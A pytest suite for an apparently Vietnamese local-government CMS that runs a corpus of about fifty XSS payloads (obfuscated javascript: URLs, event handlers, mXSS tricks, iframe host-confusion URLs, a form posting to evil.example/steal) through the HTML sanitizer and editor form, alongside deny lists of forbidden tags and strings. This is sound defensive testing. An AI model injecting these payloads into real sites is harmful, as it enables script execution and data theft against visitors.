"""HTML typed by editors: an XSS corpus saved through the real form never reaches citizens; formatting survives."""
from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from conftest import csrf_from, foreign_scripts, section_id
from core.content import Content
from core.errors import ValidationError
from core.sanitize import IFRAME_HOSTS, clean_html, images_without_alt
from core.store import Store

B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>

# (id, payload). Visible text in the payloads avoids the danger words, so any trace of them is markup.
XSS = [
    ("script", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-mixed-case", "<IMG SRC=x OnErRoR=alert(1)>"),
    ("img-onerror-unclosed-attr", "<img src=x onerror=\"alert(1)>"),
    ("a-javascript", '<a href="javascript:alert(1)">bấm</a>'),
    ("a-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">bấm</a>'),
    ("a-javascript-entity", '<a href="&#106;avascript:alert(1)">bấm</a>'),
    ("a-javascript-hex-entity", '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">bấm</a>'),
    ("a-javascript-tab", '<a href="java&#x09;script:alert(1)">bấm</a>'),
    ("a-javascript-leading-space", '<a href="  javascript:alert(1)">bấm</a>'),
    ("a-javascript-colon-entity", '<a href="javascript&colon;alert(1)">bấm</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">bấm</a>'),
    ("a-data", f'<a href="data:text/html;base64,{B64}">bấm</a>'),
    ("svg-onload", "<svg onload=alert(1)><circle r=5></circle></svg>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("iframe-evil", "<iframe src=https://evil.example></iframe>"),
    ("iframe-evil-text", "<iframe src=\"https://evil.example/\">chữ</iframe>"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-youtube-onload", '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)"></iframe>'),
    ("iframe-backslash-at", '<iframe src="https://evil.example\\@www.youtube.com/embed/x"></iframe>'),
    ("iframe-entity-at", '<iframe src="https://evil.example&#64;www.youtube.com/embed/x"></iframe>'),
    ("iframe-entity-backslash", '<iframe src="https://evil.example&#x5c;@www.youtube.com/embed/x"></iframe>'),
    ("iframe-percent-at", '<iframe src="https://evil.example%40www.youtube.com/embed/x"></iframe>'),
    ("iframe-unclosed-evil", '<iframe src="https://evil.example/">'),
    ("body-onload", "<body onload=alert(1)>thân</body>"),
    ("div-display-none", '<div style="display:none">ẩn</div>'),
    ("div-overlay", '<div style="position:fixed;top:0;left:0;width:100%;height:100%">phủ</div>'),
    ("style-url", '<p style="background:url(javascript:alert(1))">nền</p>'),
    ("style-block", "<style>body{display:none}</style>sau"),
    ("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("object", '<object data="https://evil.example/x.swf"></object>'),
    ("embed", '<embed src="https://evil.example/x.swf">'),
    ("form-action", '<form action="https://evil.example/steal"><input name=p><button>gửi</button></form>'),
    ("input-onfocus", "<input onfocus=alert(1) autofocus>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>xem</summary></details>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("img-protocol-relative", '<img src="//evil.example/x.png">'),
    ("a-protocol-relative", '<a href="//evil.example">bấm</a>'),
    ("unclosed-formatting", "<b><i><u>chữ chưa đóng thẻ"),
    ("unclosed-div-onclick", "<div><p onclick=alert(1)>chưa đóng"),
    ("comment", "<!--<script>alert(1)</script>-->chú thích"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("template", "<template><img src=x onerror=alert(1)></template>"),
]

# Elements that must never reach a citizen's page from an article body.
FORBIDDEN_TAGS = {
    "script", "style", "svg", "math", "object", "embed", "form", "input", "button", "textarea", "select",
    "body", "html", "head", "details", "meta", "base", "link", "frame", "frameset", "noscript", "template",
    "mglyph", "mtext", "applet",
}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "background", "poster"}
BAD_STRINGS = ["<script", "javascript:", "vbscript:", "data:text", '<iframe src="https://evil', "display:none",
               "display: none", "position:", "onerror", "onload", "onfocus", "ontoggle", "onclick", "srcdoc",
               "evil.example"]


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]], str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs, self.get_starttag_text() or ""))

    handle_startendtag = handle_starttag


def assert_harmless(fragment: str) -> None:
    """Fail if ``fragment`` holds anything that could run script, leave the site or hide content."""
    lowered = fragment.lower()
    markup = "".join(re.findall(r"<[^>]*>", fragment)).lower()
    for bad in BAD_STRINGS:
        assert bad not in lowered, (bad, fragment)
    assert not re.search(r"\son[a-z]+\s*=", markup), fragment
    parser = _Tags()
    parser.feed(fragment)
    parser.close()
    for tag, attrs, raw in parser.tags:
        assert tag not in FORBIDDEN_TAGS, raw
        for name, value in attrs:
            assert not name.startswith("on"), raw
            value = value or ""
            if name in URL_ATTRS:
                compact = re.sub(r"[\x00-\x20]", "", value).lower()
                assert not compact.startswith(("javascript:", "vbscript:", "data:", "//")), raw
                scheme = urlsplit(compact).scheme
                assert scheme in ("", "http", "https", "mailto"), raw
            if name == "style":
                assert not re.search(r"display|position|url\(|expression|behavior|@import", value, re.I), raw
        if tag == "iframe":
            src = dict(attrs).get("src")
            if src is not None:
                parts = urlsplit(src)
                assert parts.scheme == "https" and parts.hostname in IFRAME_HOSTS, raw
                # The host a browser reads: "\\" is "/" to it, and a user part or an escape hides the real host.
                assert "\\" not in src and not any(c in parts.netloc for c in "@%"), raw


def event_handlers(page_html: str) -> list[str]:
    """Return every start tag of a whole page that carries an on* attribute (parsed, not pattern-matched)."""
    parser = _Tags()
    parser.feed(page_html)
    parser.close()
    return [raw for _, attrs, raw in parser.tags if any(name.startswith("on") for name, _ in attrs)]


def body_region(page_html: str) -> str:
    """Return the article body exactly as the public page serves it."""
    m = re.search(r'<div class="article__body prose">(.*?)</div>\s*'
                  r'(?:<p class="share">|<section class="(?:rating|related)"|</article>)', page_html, re.S)
    assert m, "no article body on the page"
    return m.group(1)


def save_through_editor(client, content, title: str, body: str):
    url = "/quan-tri/tin-bai/moi"
    token = csrf_from(client.get(url).get_data(as_text=True))
    return client.post(url, content_type="multipart/form-data", data={
        "csrf_token": token, "title": title, "section_id": str(section_id(content, "Chuyển đổi số")),
        "summary": "Tóm tắt an toàn.", "body": body, "cover_alt": "", "status": "published", "publish_at": "",
        "author": "Ban Biên tập"})


def public_body(client, data_dir, response) -> tuple[str, str]:
    assert response.status_code == 302, response.get_data(as_text=True)[:2000]
    aid = int(urlsplit(response.headers["Location"]).path.rsplit("/", 1)[1])
    fresh = Content(Store(data_dir))
    art = fresh.article(aid)
    page = client.get(f"/{fresh.section(art['section_id'])['slug']}/{art['slug']}")
    assert page.status_code == 200
    return page.get_data(as_text=True), art["body"]


def test_corpus_is_big_enough():
    assert len(XSS) >= 15


@pytest.mark.parametrize("payload", [p for i, p in XSS if i != "unclosed-formatting"],
                         ids=[i for i, _ in XSS if i != "unclosed-formatting"])
def test_checker_flags_each_raw_payload(payload):
    """Negative control: uncleaned, every dangerous payload fails the check used below."""
    with pytest.raises(AssertionError):
        assert_harmless(payload)


# ---------------------------------------------------------------- through the real editor form
@pytest.mark.parametrize("payload", [p for _, p in XSS], ids=[i for i, _ in XSS])
def test_xss_never_reaches_the_public_article(client, auth, content, data_dir, payload):
    # Pictures need a description to be saved at all (see the test below); give each one, so the
    # attack itself reaches the cleaner and the public page.
    payload = re.sub(r"<img\b", '<img alt="Ảnh"', payload, flags=re.I)
    body = "<p>Mở đầu an toàn.</p>" + payload + "<p>Kết thúc an toàn.</p>"
    r = save_through_editor(client, content, "Bài thử nghiệm", body)
    if r.status_code == 200:
        # A picture the cleaner had to drop is not lost in silence: the save is refused and the
        # form comes back with what was typed, which must not run either.
        form = r.get_data(as_text=True)
        assert "ảnh không lưu được" in form and event_handlers(form) == []
        assert payload.lower().count("<img") >= 1
        return
    page, stored = public_body(client, data_dir, r)
    region = body_region(page)
    assert_harmless(region)
    assert_harmless(stored)  # cleaned once, on save: what is on disk is already safe
    assert "<p>Mở đầu an toàn.</p>" in region
    # The page as a whole carries no script either (no part of the body leaked elsewhere, e.g. in meta tags).
    assert foreign_scripts(page) == []
    assert event_handlers(page) == []


@pytest.mark.parametrize("payload", [p for _, p in XSS], ids=[i for i, _ in XSS])
def test_clean_html_corpus(payload):
    assert_harmless(clean_html(payload))
    assert_harmless(clean_html("<p>trước</p>" + payload + "<p>sau</p>"))


def test_xss_at_the_very_end_of_the_body_is_shown_as_text(client, auth, content, data_dir):
    """An unclosed tag at the end is dropped by browsers; the cleaner keeps it only as escaped text."""
    saved = save_through_editor(client, content, "Thẻ chưa đóng", "<p>chữ</p><img src=x onerror=alert(1)")
    page, _ = public_body(client, data_dir, saved)
    region = body_region(page)
    markup = "".join(re.findall(r"<[^>]*>", region)).lower()
    assert "onerror" not in markup and "<img" not in markup
    parser = _Tags()
    parser.feed(region)
    assert [t for t, _, _ in parser.tags] == ["p"]


def test_html_in_plain_fields_is_escaped(client, auth, content, data_dir):
    url = "/quan-tri/tin-bai/moi"
    token = csrf_from(client.get(url).get_data(as_text=True))
    r = client.post(url, content_type="multipart/form-data", data={
        "csrf_token": token, "title": "<script>alert(1)</script>Tiêu đề",
        "section_id": str(section_id(content, "Chuyển đổi số")),
        "summary": '<img src=x onerror=alert(2)>', "body": "<p>x</p>", "status": "published",
        "author": '"><svg onload=alert(3)>', "cover_alt": ""})
    page, _ = public_body(client, data_dir, r)
    assert "<script>alert(1)" not in page and "<img src=x onerror" not in page and "<svg onload" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;Tiêu đề" in page
    assert event_handlers(page) == []
    for listing in ("/chuyen-doi-so", "/", "/tim-kiem?q=tieu+de"):
        html = client.get(listing).get_data(as_text=True)
        assert "<script>alert(1)" not in html and event_handlers(html) == []


def test_intro_page_body_is_cleaned_too(client, auth, data_dir):
    url = "/quan-tri/trang-gioi-thieu/moi"
    token = csrf_from(client.get(url).get_data(as_text=True))
    body = "<p>Giới thiệu.</p>" + re.sub(r"<img\b", '<img alt="Ảnh"', "".join(p for _, p in XSS), flags=re.I)
    r = client.post(url, data={"csrf_token": token, "title": "Trang thử nghiệm", "body": body})
    assert r.status_code == 302
    html = client.get("/gioi-thieu/trang-thu-nghiem").get_data(as_text=True)
    region = re.search(r'<div class="article__body prose">(.*?)</div>\s*</article>', html, re.S).group(1)
    assert_harmless(region)
    assert "<p>Giới thiệu.</p>" in region


# ---------------------------------------------------------------- formatting that must survive
ALLOWED = [
    "<p>Đoạn văn bình thường.</p>",
    "<h2>Tiêu đề mục</h2>",
    "<h3>Tiêu đề nhỏ</h3>",
    "<p><strong>chữ đậm</strong> và <em>chữ nghiêng</em></p>",
    "<ul><li>mục một</li><li>mục hai</li></ul>",
    "<ol><li>bước một</li><li>bước hai</li></ol>",
    '<a href="https://dichvucong.gov.vn/p/home">Cổng Dịch vụ công</a>',
    '<a href="mailto:ubnd@duongquang.gov.vn">Gửi thư</a>',
    '<a href="/gioi-thieu/thong-tin-chung">Trang trong site</a>',
    '<img src="https://hungyen.gov.vn/anh/tru-so.jpg" alt="Trụ sở UBND xã" loading="lazy">',
    "<blockquote>Trích dẫn.</blockquote>",
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315"></iframe>',
]
TABLE_IN = "<table><tr><th>Họ và tên</th><th>Chức vụ</th></tr><tr><td>Nguyễn Văn An</td><td>Chủ tịch</td></tr></table>"
TABLE_OUT = ("<table><tbody><tr><th>Họ và tên</th><th>Chức vụ</th></tr>"
             "<tr><td>Nguyễn Văn An</td><td>Chủ tịch</td></tr></tbody></table>")


def test_allowed_formatting_survives_the_editor(client, auth, content, data_dir):
    body = "".join(ALLOWED) + TABLE_IN + '<p style="text-align: center">Căn giữa</p>'
    page, stored = public_body(client, data_dir, save_through_editor(client, content, "Bài định dạng", body))
    region = body_region(page)
    for fragment in ALLOWED:
        assert fragment in region, fragment
    assert TABLE_OUT in region
    assert re.search(r'<p style="text-align: center;?">Căn giữa</p>', region)
    assert region == stored
    assert_harmless(region)


@pytest.mark.parametrize("fragment", ALLOWED)
def test_clean_html_keeps_allowed_formatting(fragment):
    assert clean_html(fragment) == fragment


def test_pictures_are_lazy_and_get_their_real_size_when_known():
    sizes = {"/tep/" + "a" * 32 + ".jpg": (1600, 900)}
    html = clean_html(f'<p><img src="/tep/{"a" * 32}.jpg" alt="Cầu mới"><img src="https://x.vn/a.jpg" alt="">'
                      f'<img src="/tep/{"a" * 32}.jpg" alt="" width="400" loading="eager"></p>', sizes.get)
    assert html == (f'<p><img src="/tep/{"a" * 32}.jpg" alt="Cầu mới" loading="lazy" width="1600" height="900">'
                    '<img src="https://x.vn/a.jpg" alt="" loading="lazy">'
                    f'<img src="/tep/{"a" * 32}.jpg" alt="" width="400" loading="eager" height="225"></p>')


def test_clean_html_keeps_tables():
    assert clean_html(TABLE_IN) == TABLE_OUT


@pytest.mark.parametrize("src", [
    "https://www.youtube.com/embed/abc",
    "https://www.youtube-nocookie.com/embed/abc",
    "https://www.google.com/maps/embed?pb=x",
])
def test_clean_html_keeps_iframes_from_allowed_hosts(src):
    assert f'src="{src.replace("&", "&amp;")}"' in clean_html(f'<iframe src="{src}"></iframe>')


@pytest.mark.parametrize("src", [
    "http://www.youtube.com/embed/abc",  # plain http
    "https://youtube.com.evil.example/embed/abc",
    "https://evil.example/?www.youtube.com",
    "https://www.youtube.com@evil.example/embed",
    "//www.youtube.com/embed/abc",
])
def test_clean_html_drops_iframes_from_other_hosts(src):
    out = clean_html(f'<iframe src="{src}"></iframe><p>sau</p>')
    assert "evil" not in out and "<iframe" not in out
    assert out == "<p>sau</p>"


REFUSED_FRAMES = [
    "https://evil.com\\@www.youtube.com/embed/x",  # a browser reads "\\" as "/": the host is evil.com
    "https://evil.com%40www.youtube.com/embed/x",
    "https://evil.com&#64;www.youtube.com/embed/x",
    "https://evil.com&#x5c;@www.youtube.com/embed/x",
    "https://evil.com&#92;www.youtube.com/embed/x",
    "https://evil.com@www.youtube.com/embed/x",
    "https://user:pass@www.youtube.com/embed/x",
    "https://www.youtube.com:8443/embed/x",
    "https://www.you&#9;tube.com/embed/x",  # a browser drops the tab
    "https://evil.example/",
]


@pytest.mark.parametrize("src", REFUSED_FRAMES)
def test_a_refused_iframe_goes_whole_and_what_follows_stays(src):
    before, after = "<p>Trước khung.</p>", "<p>Đoạn <strong>sau</strong> khung.</p>"
    assert clean_html(f'{before}<iframe src="{src}" width="560" height="315">chữ bên trong</iframe>{after}') == \
        before + after
    # Left open, an iframe would take all that follows as its (never shown) content.
    assert clean_html(f'{before}<iframe src="{src}" width="560">{after}<p>Cuối.</p>') == \
        before + after + "<p>Cuối.</p>"


def test_an_allowed_iframe_keeps_no_content_and_never_swallows_what_follows():
    player = '<iframe src="https://www.youtube.com/embed/abc" width="560"></iframe>'
    after = '<p>Đoạn sau.</p><img src="/tep/a.jpg" alt="Ảnh">'
    cleaned = player + '<p>Đoạn sau.</p><img src="/tep/a.jpg" alt="Ảnh" loading="lazy">'
    assert clean_html(player.replace("></iframe>", "><p>bên trong</p></iframe>") + after) == cleaned
    assert clean_html(player.replace("></iframe>", ">") + after) == cleaned  # left open
    assert clean_html(player.replace("></iframe>", "/>") + after) == cleaned


def test_text_after_a_refused_unclosed_iframe_reaches_the_public_page(client, auth, content, data_dir):
    body = '<p>Mở đầu.</p><iframe src="https://evil.example/"><p>Đoạn <em>sau</em> khung.</p><p>Kết thúc.</p>'
    page, stored = public_body(client, data_dir, save_through_editor(client, content, "Khung bị từ chối", body))
    assert stored == "<p>Mở đầu.</p><p>Đoạn <em>sau</em> khung.</p><p>Kết thúc.</p>"
    region = body_region(page)
    assert "<p>Đoạn <em>sau</em> khung.</p><p>Kết thúc.</p>" in region and "iframe" not in region


def test_clean_html_of_nothing():
    assert clean_html("") == ""
    assert clean_html(None) == ""


def test_styles_keep_the_typed_form_and_only_allowed_properties():
    assert clean_html('<p style="TEXT-ALIGN: Center; color: red; font-weight:bold">x</p>') == \
        '<p style="TEXT-ALIGN: Center; font-weight:bold;">x</p>'
    assert clean_html('<p style="position: fixed; fill: red">x</p>') == '<p style="">x</p>'


def test_a_picture_written_inside_an_attribute_is_not_a_picture():
    out = clean_html('<p title="<img src=/tep/a.jpg>">chữ</p>', lambda src: (800, 600))
    assert out == '<p title="&lt;img src=/tep/a.jpg&gt;">chữ</p>'


def test_an_unclosed_script_takes_the_rest_with_it_as_a_browser_would():
    assert clean_html("<p>trước</p><script>alert(1)<p>sau</p>") == "<p>trước</p>"


def test_foreign_scripts_sees_everything_but_our_own_file():
    ours = '<script src="/static/js/site.js?v=123"></script>'
    assert foreign_scripts(ours) == [] and foreign_scripts(ours.replace("/static", "/xa/static")) == []
    for bad in ("<script>alert(1)</script>", '<SCRIPT src="https://evil.example/x.js"></SCRIPT>',
                '<script src="/static/js/site.js?v=1" onload="x()"></script>',
                '<script src="/static/js/other.js?v=1"></script>'):
        assert foreign_scripts(ours + bad), bad


@pytest.mark.parametrize("payload", [p for _, p in XSS if "<img" in p.lower()],
                         ids=[i for i, p in XSS if "<img" in p.lower()])
def test_picture_without_description_is_refused_and_the_form_echo_is_harmless(client, auth, content, payload):
    body = "<p>Mở đầu.</p>" + payload
    r = save_through_editor(client, content, "Ảnh thiếu mô tả", body)
    if r.status_code == 302:  # the <img> was never a picture (unclosed, or text inside <style>): saved without it
        assert "<img" not in content.article(int(r.headers["Location"].rsplit("/", 1)[1]))["body"]
        return
    page = r.get_data(as_text=True)
    # Refused either way: a picture without a description, or one the cleaner had to drop.
    assert r.status_code == 200 and ("chưa có mô tả cho người khiếm thị" in page or "ảnh không lưu được" in page)
    assert event_handlers(page) == []
    # Only the panel's own script files (the editor's): no inline script, nothing from elsewhere.
    assert all(re.fullmatch(r'<script src="/static/[^"]+"(?: defer)?>', tag)
               for tag in re.findall(r"<script\b[^>]*>", page)), re.findall(r"<script\b[^>]*>", page)
    assert not any(a["title"] == "Ảnh thiếu mô tả" for a in content.editor_articles()[0])


def test_every_editable_body_requires_picture_descriptions(app):
    svc = app.extensions["trangxa"]
    picture = '<p>Ảnh:</p><img src="/tep/anh-cu.jpg"><img src="/tep/anh-hai.jpg" alt="  ">'
    with pytest.raises(ValidationError) as page_error:
        svc.content.save_page({"title": "Trang có ảnh", "body": picture})
    assert page_error.value.errors["body"].startswith("Có 2 ảnh trong nội dung chưa có mô tả")
    assert "“anh-cu.jpg”" in page_error.value.errors["body"]
    with pytest.raises(ValidationError) as draft_error:
        svc.consultations.save({"title": "Dự thảo", "body": picture, "opens_on": "01/12/2026",
                                "closes_on": "31/12/2026"})
    assert "chưa có mô tả" in draft_error.value.errors["body"]
    saved = svc.content.save_page({"title": "Trang có ảnh",
                                   "body": '<img src="/tep/a.jpg" alt="Cầu"><img src="/tep/b.jpg" alt="Đường">'})
    assert saved["body"].count("<img") == 2
    assert images_without_alt('<img src="/a.jpg" alt="Mô tả">') == []
    assert images_without_alt('<img src="/a.jpg">') == ["/a.jpg"]


def test_a_picture_pasted_into_the_text_is_refused_not_lost(client, auth, content):
    pasted = '<p>Ảnh:</p><img src="data:image/png;base64,iVBORw0KGgo=" alt="Cổng làng">'
    r = save_through_editor(client, content, "Ảnh dán thẳng", pasted)
    page = r.get_data(as_text=True)
    assert r.status_code == 200
    assert "Có 1 ảnh không lưu được (“data:image/png;base64,iVBORw0KGgo=”)" in page
    assert "Chèn ảnh từ thư viện" in page
    assert "data:image/png;base64,iVBORw0KGgo=" in page  # what was typed comes back in the field
    assert not any(a["title"] == "Ảnh dán thẳng" for a in content.editor_articles()[0])
